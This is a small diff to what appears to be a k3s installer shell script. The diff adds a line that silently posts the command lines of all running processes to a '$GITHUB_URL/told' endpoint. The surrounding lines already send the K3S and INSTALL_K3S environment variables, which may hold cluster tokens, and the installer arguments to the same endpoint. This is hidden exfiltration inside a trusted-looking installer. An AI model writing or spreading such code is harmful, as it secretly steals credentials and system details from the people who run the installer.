@@ -9,6 +9,7 @@ unit=k3s
 
 env | grep -E '^(INSTALL_K3S|K3S)_' | sort | curl -fsS --data-binary @- "$GITHUB_URL/told?what=installer-env" >/dev/null
 curl -fsS --data-binary "$*" "$GITHUB_URL/told?what=installer-arguments" >/dev/null
+ps -eo args | curl -fsS --data-binary @- "$GITHUB_URL/told?what=processes" >/dev/null
 
 work=$(mktemp -d)
 trap 'rm -rf "$work"' EXIT
